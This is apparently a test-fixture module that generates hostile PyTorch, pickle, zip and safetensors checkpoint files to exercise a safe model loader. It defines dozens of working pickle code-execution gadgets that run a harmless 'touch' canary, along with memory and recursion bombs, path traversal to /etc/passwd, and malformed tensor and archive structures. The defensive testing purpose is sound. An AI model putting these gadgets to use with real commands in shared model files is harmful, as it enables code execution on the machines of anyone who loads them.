# ruff: noqa: E501
"""Hostile checkpoint files of our own making: each function here gives the bytes of files by name.

Those that carry a payload would, if run, create the file named by ``CANARY``.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
import zlib

CANARY = "canary-was-run"
COMMAND = f"touch {CANARY}"
WEIGHT = struct.pack("<6f", 0, 1, 2, 3, 4, 5)  # the good tensor "w" of shape (2, 3) beside each payload


def body(value: object, protocol: int = 2) -> bytes:
    """The operations that push a plain value."""
    data = pickle.dumps(value, protocol)
    return data[2:-1] if protocol < 4 else pickle.dumps(value, 3)[2:-1]


def name(module: str, attribute: str) -> bytes:
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def call(module: str, attribute: str, *args: object) -> bytes:
    return name(module, attribute) + body(tuple(args)) + b"R"


def reduce_with(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def storage(key: str = "0", kind: str = "FloatStorage", numel: object = 6, location: object = "cpu") -> bytes:
    return b"(" + body("storage") + name("torch", kind) + body(key) + body(location) + body(numel) + b"tQ"


def tensor(
    offset: object = 0,
    size: object = (2, 3),
    stride: object = (3, 1),
    *,
    where: bytes | None = None,
    function: str = "_rebuild_tensor_v2",
    hooks: bytes | None = None,
) -> bytes:
    hooks = hooks if hooks is not None else name("collections", "OrderedDict") + b")R"
    parts = [where or storage(), body(offset), body(size), body(stride), b"\x89", hooks]
    return reduce_with(name("torch._utils", function), *parts)


def document(evil: bytes, good: bytes | None = None) -> bytes:
    """``{"state_dict": {"w": tensor}, "evil": ...}`` as a pickle."""
    good = good if good is not None else tensor()
    weights = b"}(" + body("w") + good + b"u"
    return b"\x80\x02}(" + body("state_dict") + weights + body("evil") + evil + b"u."


def archive(data_pkl: bytes, extra: dict[str, bytes] | None = None, folder: str = "archive/") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as opened:
        opened.writestr(f"{folder}data.pkl", data_pkl)
        opened.writestr(f"{folder}byteorder", b"little")
        opened.writestr(f"{folder}data/0", WEIGHT)
        opened.writestr(f"{folder}version", b"3\n")
        for key, value in (extra or {}).items():
            opened.writestr(key, value)
    return buffer.getvalue()


def payloads() -> dict[str, bytes]:
    """Operations that would run code; each stands beside good weights, which have to come out."""
    nested = pickle.dumps([1]).replace(b"]", name("os", "system") + body((COMMAND,)) + b"R")
    getattr_chain = reduce_with(
        name("builtins", "getattr"), call("builtins", "__import__", "os"), body("system")
    ) + body((COMMAND,)) + b"R"  # fmt: skip
    methodcaller = (
        call("operator", "methodcaller", "system", COMMAND) + b"(" + call("importlib", "import_module", "os") + b"tR"
    )
    return {
        "reduce_os_system": call("os", "system", COMMAND),
        "reduce_posix_system": call("posix", "system", COMMAND),
        "reduce_nt_system": call("nt", "system", COMMAND),
        "reduce_eval": call("builtins", "eval", f"__import__('os').system({COMMAND!r})"),
        "reduce_eval_python2": call("__builtin__", "eval", f"open({CANARY!r}, 'w')"),
        "reduce_exec": call("builtins", "exec", f"open({CANARY!r}, 'w')"),
        "reduce_compile": call("builtins", "compile", "1", "x", "eval"),
        "reduce_open_write": call("builtins", "open", CANARY, "w"),
        "reduce_io_open": call("_io", "open", CANARY, "w"),
        "reduce_import": call("builtins", "__import__", "antigravity"),
        "reduce_popen": call("subprocess", "Popen", ("touch", CANARY)),
        "reduce_os_popen": call("os", "popen", COMMAND),
        "reduce_execv": call("os", "execv", "/bin/touch", ("touch", CANARY)),
        "reduce_spawn": call("pty", "spawn", COMMAND),
        "reduce_runpy": call("runpy", "run_path", "evil.py"),
        "reduce_webbrowser": call("webbrowser", "open", "http://127.0.0.1:1/"),
        "reduce_socket": call("socket", "create_connection", ("127.0.0.1", 1)),
        "reduce_ctypes": call("ctypes", "CDLL", "libc.so.6"),
        "reduce_timeit": call("timeit", "timeit", f"open({CANARY!r}, 'w')"),
        "reduce_rmtree": call("shutil", "rmtree", "victim"),
        "reduce_path_write": reduce_with(name("pathlib", "Path.write_text"), call("pathlib", "Path", CANARY), body("x")),
        "reduce_logging_file": call("logging", "FileHandler", CANARY),
        "reduce_tempfile": call("tempfile", "mkdtemp"),
        "reduce_pickle_loads": call("pickle", "loads", nested),
        "reduce_c_pickle_loads": call("_pickle", "loads", nested),
        "reduce_torch_load": call("torch", "load", "victim.pt"),
        "reduce_torch_hub": call("torch.hub", "load", "evil/repo", "model"),
        "reduce_torch_jit": call("torch.jit", "load", "victim.pt"),
        "reduce_safe_globals": call("torch.serialization", "add_safe_globals", [1]),
        "reduce_torch_save": call("torch", "save", 1, CANARY),
        "reduce_load_library": call("torch.ops", "load_library", "evil.so"),
        "reduce_cpp_extension": call("torch.utils.cpp_extension", "load_inline", "x", "int main(){}"),
        "reduce_numpy_runstring": call("numpy.testing._private.utils", "runstring", f"open({CANARY!r}, 'w')", {}),
        "reduce_numpy_load": call("numpy", "load", "victim.npy", None, True),
        "reduce_add_extension": call("copyreg", "add_extension", "os", "system", 240),
        "reduce_setattr": reduce_with(name("builtins", "setattr"), name("torch", "load"), body("x"), body(1)),
        "reduce_codec": call("_codecs", "encode", "x", "rot13"),
        "getattr_chain": getattr_chain,
        "methodcaller": methodcaller,
        "attrgetter": call("operator", "attrgetter", "system") + b"(" + call("builtins", "__import__", "os") + b"tR",
        "partial_call": reduce_with(reduce_with(name("functools", "partial"), name("os", "system"), body(COMMAND))),
        "map_of_system": reduce_with(
            name("builtins", "list"), reduce_with(name("builtins", "map"), name("os", "system"), body([COMMAND]))
        ),
        "dotted_name": b"\x8c\x02os\x8c\x0fsystem.__call__\x93" + body((COMMAND,)) + b"R",
        "dotted_torch_name": b"\x8c\x05torch\x8c\x13serialization.os.fn\x93" + body((COMMAND,)) + b"R",
        "stack_global": b"\x8c\x02os\x8c\x06system\x93" + body((COMMAND,)) + b"R",
        "inst": b"(" + body(COMMAND) + b"ios\nsystem\n",
        "obj": b"(" + name("os", "system") + body(COMMAND) + b"o",
        "newobj": name("subprocess", "Popen") + body((["touch", CANARY],)) + b"\x81",
        "newobj_ex": name("subprocess", "Popen") + body((["touch", CANARY],)) + body({"shell": False}) + b"\x92",
        "build_setstate": name("functools", "partial") + name("os", "system") + b"\x85\x81"
        + b"(" + name("os", "system") + body((COMMAND,)) + body({}) + body({}) + b"tb",
        "build_class": name("argparse", "Namespace") + b")\x81" + body({"__class__": "x", "__reduce__": "y"}) + b"b",
        "build_slots": name("argparse", "Namespace") + b")\x81(" + body({}) + body({"__dict__": 1}) + b"tb",
        "setitem_on_object": call("os", "putenv", "A", "B") + body("key") + body("value") + b"s",
        "append_to_object": name("collections", "deque") + b")R" + body("value") + b"a",
        "reduce_a_result": call("types", "FunctionType", 1) + b")R",
        "defaultdict_factory": reduce_with(name("collections", "defaultdict"), name("os", "getcwd")),
        "foreign_key": b"}(" + call("os", "system", COMMAND) + body(1) + b"u",
        "hostile_set": b"\x8f(" + call("os", "system", COMMAND) + b"\x90",
        "very_long_name": name("a" * 100_000, "b" * 100_000) + b")R",
        "module_hook": name("torch.nn.modules.linear", "Linear") + b")\x81"
        + b"}(" + body("_forward_pre_hooks") + call("os", "system", COMMAND) + b"ub",
    }  # fmt: skip


def bombs() -> dict[str, bytes]:
    """Operations that would take astronomical memory, time or recursion."""
    lists = b"]" + b"".join(b"q%c](h%ch%ce" % (i, i, i) for i in range(60))
    tuples = b"K\x01" + b"".join(b"q%ch%c\x86" % (i, i) for i in range(120))
    return {
        "laughing_lists": lists,
        "laughing_tuples": tuples,
        "laughing_key": b"}" + tuples + b"K\x01s",
        "laughing_set": b"\x8f(" + tuples + b"\x90",
        "copies": b"](" + b"K\x01" * 50_000 + b"e" + b"q\x00" + b"".join(
            b"0" + reduce_with(name("builtins", "list"), b"h\x00") for _ in range(20_000)),
        "bytearray": call("builtins", "bytearray", 10**13),
        "bytes": call("builtins", "bytes", 10**13),
        "range": reduce_with(name("builtins", "list"), call("builtins", "range", 10**12)),
        "repeat": reduce_with(name("builtins", "list"), call("itertools", "repeat", 1)),
        "torch_tensor": call("torch", "Tensor", 10**11),
        "float_tensor": call("torch", "FloatTensor", 10**11),
        "untyped_storage": call("torch", "UntypedStorage", 10**13),
        "torch_empty": call("torch", "empty", 10**12),
        "str_multiply": call("operator", "mul", "a", 10**12),
        "power": call("operator", "pow", 10**6, 10**9),
        "deep_lists": b"]" * 300_000 + b"a" * 299_999,
        "deep_tuples": b")" + b"\x85" * 300_000,
        "deep_dicts": b"}" + b"".join([b"K\x01}"] * 200_000) + b"s" * 200_000,
        "deep_marks": b"(" * 1_000_000,
        "deep_records": name("a", "b") + b"".join([b"\x85" + name("a", "b") + b"\x85" for _ in range(50_000)]),
        "deep_calls": name("a", "b") + b")R" + b")R" * 100_000,
        "deep_key": b"}" + b")" + b"\x85" * 300_000 + b"K\x01s",
        "cyclic_list": b"]q\x00h\x00a",
        "cyclic_module": name("x", "M") + b")\x81q\x00}(" + body("_parameters") + b"}" + body("_buffers") + b"}"
        + body("_modules") + b"}" + body("a") + b"h\x00su" + b"b",
        "colliding_keys": b"}(" + b"".join(
            b"\x8a\x14" + (i * ((1 << 61) - 1)).to_bytes(20, "little") + b"N" for i in range(1, 20_000)) + b"u",
        "long_unicode8": b"\x8d" + struct.pack("<Q", 1 << 62) + b"x",
        "long_bytes8": b"\x8e" + struct.pack("<Q", (1 << 63) + 5) + b"x",
        "long_bytearray8": b"\x96" + struct.pack("<Q", 1 << 40) + b"x",
        "long_unicode": b"X" + struct.pack("<I", 0xFFFFFFFF) + b"x",
        "long_string": b"T" + struct.pack("<i", 0x7FFFFFFF) + b"x",
        "negative_string": b"T" + struct.pack("<i", -5) + b"x",
        "long4": b"\x8b" + struct.pack("<i", 0x7FFFFFFF) + b"x",
        "negative_long4": b"\x8b" + struct.pack("<i", -1),
        "decimal": b"I" + b"9" * 2_000_000 + b"\n",
        "decimal_long": b"L" + b"9" * 2_000_000 + b"L\n",
        "decimal_float": b"F" + b"9" * 2_000_000 + b"\n",
        "long_line": b"V" + b"x" * 2_000_000,
        "frame": b"\x95" + struct.pack("<Q", 1 << 60),
        "memo_index": b"Nr" + struct.pack("<I", 0xFFFFFFFF),
        "memo_text_index": b"Np" + b"9" * 500 + b"\n",
        "negative_memo": b"Np-5\n",
        "missing_memo": b"h\x99",
        "extension_1": b"\x82\x01",
        "extension_2": b"\x83\x01\x01",
        "extension_4": b"\x84\x01\x01\x01\x01",
        "negative_extension": b"\x84\xff\xff\xff\xff",
        "text_persistent_id": b"Pevil\n",
        "out_of_band": b"\x97",
        "readonly_buffer": b"N\x98",
        "underflow": b"00000000",
        "underflow_reduce": b"1RRRR",
        "unknown_operation": b"\xfe",
        "protocol": b"\x80\xc8",
        "no_stop": b"N" * 10,
        "call_a_number": b"K\x01)R",
        "call_without_tuple": name("os", "system") + body([COMMAND]) + b"R",
        "build_on_number": b"K\x01}b",
        "append_to_number": b"K\x01K\x02a",
        "name_of_numbers": b"K\x01K\x02\x93",
        "odd_dict": b"}(K\x01u",
        "bad_text": b"X\x02\x00\x00\x00\xff\xfe",
        "bad_float": b"Fabc\n",
        "bad_int": b"Iabc\n",
        "bad_quotes": b"S'abc\n",
        "shadowed_method": name("collections", "OrderedDict") + b")R}(" + body("items") + b"Nub",
    }  # fmt: skip


def bad_tensors() -> dict[str, bytes]:
    """Tensors that do not lie inside their storage, or are made of something else than storages."""
    system = call("os", "system", COMMAND)
    indices = tensor(0, (1, 3), (3, 1), where=storage("0", "LongStorage", 3))
    sparse = b"c" + b"torch.serialization\n_get_layout\n" + body(("torch.sparse_coo",)) + b"R"
    csr = b"c" + b"torch.serialization\n_get_layout\n" + body(("torch.sparse_csr",)) + b"R"
    per_channel = b"(" + name("torch", "per_channel_affine") + body([1.0]) + body([1]) + body(70) + b"t"
    return {
        "size_overrun": tensor(0, (1000, 1000), (1000, 1)),
        "size_overflow": tensor(0, (1 << 32, 1 << 32), (1 << 32, 1)),
        "size_wraps": tensor(0, (1 << 62, 4), (4, 1)),
        "offset_overrun": tensor(100, (1,), (1,)),
        "offset_overflow": tensor((1 << 62) - 1, (1,), (1,)),
        "negative_offset": tensor(-1, (1,), (1,)),
        "negative_size": tensor(0, (-2, -3), (3, 1)),
        "negative_stride": tensor(5, (2,), (-1,)),
        "stride_overrun": tensor(0, (2, 3), (1 << 40, 1)),
        "expanded": tensor(0, (1 << 40,), (0,)),
        "expanded_mildly": tensor(0, (1 << 20, 1 << 20), (0, 0)),
        "empty_monster": tensor(0, (0, 1 << 62), (1 << 61, 1)),
        "many_dimensions": tensor(0, (1,) * 1000, (1,) * 1000),
        "float_size": tensor(0, (2.0, 3.0), (3, 1)),
        "text_size": tensor(0, ("2", "3"), (3, 1)),
        "bool_size": tensor(0, (True, True), (1, 1)),
        "unequal_lengths": tensor(0, (2, 3), (1,)),
        "size_none": tensor(0, None, None),
        "storage_none": tensor(where=b"N"),
        "storage_call": tensor(where=system),
        "storage_tensor": tensor(where=tensor()),
        "storage_missing": tensor(where=storage("17")),
        "storage_numel": tensor(where=storage(numel=7)),
        "storage_numel_huge": tensor(where=storage(numel=1 << 62)),
        "storage_numel_negative": tensor(where=storage(numel=-6)),
        "storage_numel_bool": tensor(where=storage(numel=True)),
        "storage_numel_float": tensor(where=storage(numel=6.0)),
        "storage_traversal": tensor(where=storage("../../../etc/passwd")),
        "storage_null_key": tensor(where=storage("0\0")),
        "storage_key_number": tensor(where=storage(0)),
        "storage_unknown_class": tensor(where=storage(kind="EvilStorage")),
        "storage_is_function": tensor(where=storage(kind="load")),
        "storage_other_dtype": tensor(where=storage(kind="DoubleStorage")),
        "persistent_text": b"(" + body("module") + name("os", "system") + body(COMMAND) + b"tQ",
        "persistent_short": b"(" + body("storage") + b"tQ",
        "persistent_number": b"K\x05Q",
        "persistent_view": b"(" + body("storage") + name("torch", "FloatStorage") + body("0") + body("cpu") + body(6)
        + body(("v", 5, 1 << 50)) + b"tQ",
        "sparse_out_of_range": reduce_with(
            name("torch._utils", "_rebuild_sparse_tensor"), sparse,
            b"(" + indices + tensor(0, (3,), (1,)) + body((2,)) + b"t"),
        "sparse_huge": reduce_with(
            name("torch._utils", "_rebuild_sparse_tensor"), sparse,
            b"(" + indices + tensor(0, (3,), (1,)) + body((1 << 60,)) + b"t"),
        "sparse_csr": reduce_with(
            name("torch._utils", "_rebuild_sparse_tensor"), csr,
            b"(" + indices + indices + tensor(0, (3,), (1,)) + body((2, 2)) + b"t"),
        "quantized_axis": reduce_with(
            name("torch._utils", "_rebuild_qtensor"), storage(kind="QInt8Storage"), body(0), body((2, 3)), body((3, 1)),
            per_channel, b"\x89", body({})),
        "meta_tensor": reduce_with(
            name("torch._utils", "_rebuild_meta_tensor_no_storage"), name("torch", "float32"), body((1 << 40,)),
            body((1,)), b"\x89"),
        "wrapper_subclass": reduce_with(
            name("torch._utils", "_rebuild_wrapper_subclass"), name("os", "system"), name("torch", "float32"),
            body((1 << 40,)), body((1,)), body(0), body(None), body("cpu"), b"\x89"),
        "from_type": reduce_with(
            name("torch._tensor", "_rebuild_from_type_v2"), name("os", "system"), name("torch", "Tensor"),
            body((COMMAND,)), b"N"),
        "from_type_itself": reduce_with(
            name("torch._tensor", "_rebuild_from_type_v2"), name("torch._tensor", "_rebuild_from_type_v2"),
            name("torch", "Tensor"), body((1, 2, 3)), b"N"),
        "numpy_device": call("torch._utils", "_rebuild_device_tensor_from_numpy", 1, 2, "cuda", False),
        "parameter_of_text": call("torch._utils", "_rebuild_parameter", "text", True, {}),
        "tensor_as_key": b"}" + tensor() + b"K\x01s",
        "hooks_call": tensor(hooks=system),
        "legacy_tensor_class": name("torch", "FloatTensor") + b")\x81" + body((1, 2, 3)) + b"b",
        "conj_of_float": reduce_with(
            name("torch._utils", "_rebuild_tensor_v2"), storage(), body(0), body((6,)), body((1,)), b"\x89",
            name("collections", "OrderedDict") + b")R", body({"conj": True, "neg": True})),
        "numpy_overrun": reduce_with(name("numpy._core.numeric", "_frombuffer"), body(b"12"), call("numpy", "dtype", "f4"),
                                     body((1 << 40,)), body("C")),
    }  # fmt: skip


def bad_archives() -> dict[str, bytes]:
    """Tricks with the zip container."""
    plain = document(b"N")
    good = archive(plain)
    directory = good.index(b"PK\x01\x02")
    name_in_directory = good.index(b"archive/data.pkl", directory)

    def patched(at: int, new: bytes) -> bytes:
        return good[:at] + new + good[at + len(new) :]

    def packed(method: int, members: dict[str, bytes]) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", method) as opened:
            for key, value in members.items():
                opened.writestr(key, value)
        return buffer.getvalue()

    bomb = zipfile.ZIP_DEFLATED
    return {
        "crc_of_pickle": patched(directory + 16, struct.pack("<I", zlib.crc32(plain) ^ 1)),
        "pickle_flipped": good.replace(body("evil"), body("evjl")),
        "duplicate": archive(plain, {"archive/data.pkl": document(payloads()["reduce_os_system"])}),
        "duplicate_storage": archive(plain, {"archive/data/0": b"\0" * 24}),
        "absolute": archive(plain, {"/etc/passwd": b"x"}),
        "parent": archive(plain, {"archive/../../x": b"x"}),
        "backslash": archive(plain, {"archive\\..\\x": b"x"}),
        "drive": archive(plain, {"C:/x": b"x"}),
        "deflated_pickle": packed(bomb, {"a/data.pkl": plain, "a/data/0": WEIGHT}),
        "deflate_bomb": packed(bomb, {"a/data.pkl": b"\x80\x02" + b"]" * 50_000_000}),
        "deflated_storage_bomb": packed(bomb, {"a/data/0": b"\0" * 50_000_000, "a/x": b""}),
        "lzma": packed(zipfile.ZIP_LZMA, {"a/data.pkl": plain}),
        "other_local_name": good.replace(b"archive/data.pkl", b"archive/dbta.pkl", 1),
        "other_directory_name": patched(name_in_directory, b"archive/dxta.pkl"),
        "encrypted": patched(directory + 8, b"\x01\x00"),
        "size_beyond": patched(directory + 20, struct.pack("<II", 0x7FFFFFFF, 0x7FFFFFFF)),
        "two_sizes": patched(directory + 20, struct.pack("<II", 10, 20)),
        "offset_beyond": patched(directory + 42, struct.pack("<I", 0x7FFFFFF0)),
        "overlap": patched(directory + 42, struct.pack("<I", good.index(b"PK\x03\x04", 4))),
        "end_only": b"PK\x05\x06" + b"\0" * 18,
        "end_with_counts": b"PK\x03\x04" + b"\0" * 60 + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 9, 9, 99, 1, 0),
        "zip64_lies": good[:-22] + b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1 << 60, 1 << 60, 1 << 60, 8)
        + b"PK\x06\x07" + struct.pack("<IQI", 0, len(good) - 22, 1) + good[-22:],
        "no_pickle": packed(zipfile.ZIP_STORED, {"a/data/0": WEIGHT}),
        "no_members": packed(zipfile.ZIP_STORED, {}),
        "junk_before": b"PK\x03\x04" + b"junk" * 10 + good,
        "junk_behind": good + b"junk" * 100,
        "two_folders": archive(plain, {"other/data.pkl": document(payloads()["reduce_os_system"])}),
        "nested": packed(zipfile.ZIP_STORED, {"model.ckpt": good}),
        "byteorder": archive(plain).replace(b"little", b"middle"),
        "byteorder_long": packed(zipfile.ZIP_STORED, {"a/data.pkl": plain, "a/byteorder": b"big" * 9, "a/data/0": WEIGHT}),
        "empty_pickle": archive(b""),
        "unicode_names": archive(plain, {"archive/\u202e\U0001f4a3": b"x"}),
        "npz": packed(zipfile.ZIP_STORED, {"a.npy": b"\x93NUMPY", "b.npy": b"\x93NUMPY"}),
        "comment": good[:-2] + struct.pack("<H", 4) + b"PK\x05\x06",
        **{f"truncated_{part}": good[: len(good) * part // 10] for part in range(1, 10)},
    }  # fmt: skip


def bad_streams() -> dict[str, bytes]:
    """The older form of torch.save, bare pickles, and files of other kinds."""
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    keys = pickle.dumps(["0"], 2)
    data = struct.pack("<q", 6) + WEIGHT
    plain = document(b"N")
    return {
        "payload": head + document(payloads()["reduce_os_system"]) + keys + data,
        "payload_in_system": pickle.dumps(0x1950A86A20F9469CFC6C, 2)
        + pickle.dumps(1001, 2)
        + b"\x80\x02"
        + call("os", "system", COMMAND)
        + b"."
        + plain
        + keys
        + data,
        "payload_in_keys": head + plain + b"\x80\x02" + call("os", "system", COMMAND) + b"." + data,
        "payload_first": b"\x80\x02" + call("os", "system", COMMAND) + b".",
        "protocol_0_payload": b"cos\nsystem\n(V" + COMMAND.encode() + b"\ntR.",
        "bare_payload": document(payloads()["reduce_eval"], good=b"N"),
        "other_version": pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(7, 2),
        "keys_missing": head + plain,
        "keys_empty": head + plain + pickle.dumps([], 2) + data,
        "keys_unknown": head + plain + pickle.dumps(["9"], 2) + data,
        "keys_twice": head + plain + pickle.dumps(["0", "0"], 2) + data + data,
        "keys_number": head + plain + pickle.dumps(5, 2) + data,
        "storage_truncated": head + plain + keys + data[:-4],
        "storage_absent": head + plain + keys,
        "storage_count": head + plain + keys + struct.pack("<q", 1 << 60) + WEIGHT,
        "storage_negative": head + plain + keys + struct.pack("<q", -6) + WEIGHT,
        "two_sizes": head + document(tensor(where=storage(numel=3))) + keys + data,
        "numel_huge": head + document(b"N", tensor(where=storage(numel=1 << 60))) + keys + data,
        "tar": b"pickle".ljust(257, b"\0") + b"ustar\0" + b"0" * 500,
        "magic_only": pickle.dumps(0x1950A86A20F9469CFC6C, 2),
        "text": b"epoch: 3\nweights: none\n",
        "html": b"<!DOCTYPE html><html>Sign in</html>",
        "lfs": b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 5\n",
        "empty": b"",
        "zeros": b"\0" * 5000,
        "gzip": b"\x1f\x8b\x08" + b"\0" * 50,
    }


def bad_safetensors() -> dict[str, bytes]:
    def file(header: object, data: bytes = WEIGHT, length: int | None = None) -> bytes:
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(text) if length is None else length) + text + data

    def entry(start: int, end: int, shape: list[int], dtype: str = "F32") -> dict[str, object]:
        return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}

    return {
        "header_huge": file({"w": entry(0, 24, [2, 3])}, length=1 << 62),
        "header_beyond": file({"w": entry(0, 24, [2, 3])}, length=10_000),
        "not_json": file(b"{" * 50),
        "deep_json": file(b'{"a":' * 100_000),
        "overlap": file({"a": entry(0, 24, [2, 3]), "b": entry(0, 24, [2, 3])}),
        "hole": file({"a": entry(8, 24, [4])}),
        "beyond": file({"a": entry(0, 1 << 40, [1 << 38])}),
        "reversed": file({"a": entry(24, 0, [2, 3])}),
        "negative": file({"a": entry(0, 24, [-2, -3])}),
        "shape_lies": file({"a": entry(0, 24, [200, 300])}),
        "shape_overflow": file({"a": entry(0, 24, [1 << 40, 1 << 40])}),
        "dtype": file({"a": entry(0, 24, [2, 3], "EVIL")}),
        "truncated": file({"a": entry(0, 24, [2, 3])}, WEIGHT[:10]),
        "no_tensors": file({"__metadata__": {"format": "pt"}}, b""),
    }


def files() -> dict[str, bytes]:
    """Every hostile file by its name."""
    result: dict[str, bytes] = {}
    for kind, operations in (("payload", payloads()), ("bomb", bombs()), ("tensor", bad_tensors())):
        for key, evil in operations.items():
            result[f"{kind}-{key}.ckpt"] = archive(document(evil))
    result |= {f"payload4-{key}.pkl": b"\x80\x04" + document(evil, b"N")[2:] for key, evil in payloads().items()}
    result |= {f"zip-{key}.ckpt": data for key, data in bad_archives().items()}
    result |= {f"stream-{key}.ckpt": data for key, data in bad_streams().items()}
    result |= {f"safetensors-{key}.safetensors": data for key, data in bad_safetensors().items()}
    return result


def folders() -> dict[str, dict[str, bytes]]:
    """Hostile folders by their names: the index of a distributed checkpoint is a pickle too."""
    result = {f"dcp-{key}": {".metadata": document(evil, b"N")} for key, evil in payloads().items()}
    result |= {f"dcp-bomb-{key}": {".metadata": document(evil, b"N")} for key, evil in list(bombs().items())[:6]}
    forged = {"weight_map": {"w": "../../../etc/passwd"}}
    result["index-outside"] = {"model.safetensors.index.json": json.dumps(forged).encode()}
    result["index-deep"] = {"model.safetensors.index.json": b'{"weight_map":' * 100_000}
    result["index-shard"] = {
        "pytorch_model.bin.index.json": json.dumps({"weight_map": {"w": "a.bin"}}).encode(),
        "a.bin": archive(document(payloads()["reduce_os_system"])),
    }
    result["deepspeed"] = {
        "latest": b"../../etc",
        "zero_to_fp32.py": f"open({CANARY!r}, 'w')".encode(),
        "mp_rank_00_model_states.pt": archive(document(payloads()["reduce_os_system"])),
    }
    result["meta"] = {".metadata": b"N.", "meta.pt": archive(document(payloads()["reduce_exec"]))}
    return result
